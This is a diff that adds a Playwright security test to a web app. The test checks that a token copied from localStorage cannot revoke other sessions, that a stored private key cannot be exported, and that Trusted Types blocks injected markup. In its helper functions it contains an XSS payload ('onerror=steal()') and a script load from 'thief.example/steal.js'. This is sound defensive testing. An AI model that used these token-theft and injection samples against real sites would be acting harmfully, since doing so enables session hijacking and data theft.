@@ -1,8 +1,11 @@
 // Sessions that end elsewhere: ended from another browser, or signed out in another tab.
+import { revokeOtherSessions } from '@kivuko/contract/account-security.ts'
+import { me } from '@kivuko/contract/auth.ts'
 import type { BrowserContext, Page } from '@playwright/test'
 import { expect, test } from './fixtures.ts'
 import { expectAccessible } from './support/accessible.ts'
 import { openMenu, signIn, signOut } from './support/account.ts'
+import { call } from './support/call.ts'
 import type { Customer } from './support/kivuko.ts'
 
 test.describe('signed in', () => {
@@ -52,6 +55,75 @@ test.describe('signed in', () => {
     await expectAccessible(other)
   })
 })
+
+test('SEC-35 SEC-45 a token copied out of the browser changes nothing elsewhere, its key stays, and no text becomes a script', async ({
+  page,
+  browser,
+  kivuko,
+  customer,
+}) => {
+  await kivuko.signIn(customer)
+  await page.goto('/sign-in')
+  await signIn(page, customer)
+  await expect(page).toHaveURL('/dashboard')
+  const token = (await page.evaluate(() => localStorage.getItem('token'))) ?? ''
+  const thief = { appUrl: kivuko.appUrl, token }
+  expect((await call(thief, me)).email).toBe(customer.email)
+  await expect(call(thief, revokeOtherSessions)).rejects.toThrow('device_proof_required')
+  expect(await page.evaluate(copyKey)).toBe('InvalidAccessError')
+  // In a browser of its own: the refusals are written into its console.
+  const attacked = await browser.newPage()
+  for (const path of ['/', '/buy', '/sign-in']) {
+    await attacked.goto(`${kivuko.appUrl}${path}`)
+    expect([path, ...(await attacked.evaluate(slipIn))]).toEqual([path, 'TypeError', 'TypeError'])
+  }
+  await attacked.close()
+
+  await page.goto('/security')
+  const section = page.getByRole('region', { name: 'Where you are signed in' })
+  await section.getByRole('button', { name: 'Sign out all others' }).click()
+  const question = page.getByRole('alertdialog', { name: 'Sign out every other session?' })
+  await question.getByRole('button', { name: 'Sign out all others' }).click()
+  await expect(section).toContainText('You are signed in nowhere else.')
+})
+
+/** Runs in the page, as a script of a thief's would: the name of the refusal. */
+function copyKey(): Promise<string> {
+  return new Promise((resolve, reject) => {
+    const opening = indexedDB.open('keyval-store')
+    opening.onerror = () => reject(opening.error)
+    opening.onsuccess = () => {
+      const reading = opening.result.transaction('keyval').objectStore('keyval').get('device-key')
+      reading.onsuccess = () => {
+        const { privateKey } = reading.result as CryptoKeyPair
+        crypto.subtle.exportKey('jwk', privateKey).then(
+          () => resolve('copied'),
+          (error: DOMException) => resolve(error.name),
+        )
+      }
+    }
+  })
+}
+
+/** Runs in the page: how markup and a stranger's script are refused. */
+function slipIn(): string[] {
+  const attempts = [
+    () => {
+      document.createElement('div').innerHTML = '<img src="x" onerror="steal()">'
+    },
+    () => {
+      document.createElement('script').src = 'https://thief.example/steal.js'
+    },
+  ]
+  return attempts.map((attempt) => {
+    try {
+      attempt()
+      return 'done'
+    } catch (error) {
+      return (error as Error).name
+    }
+  })
+}
 
 async function openSession(context: BrowserContext, customer: Customer): Promise<Page> {
   const page = await context.newPage()
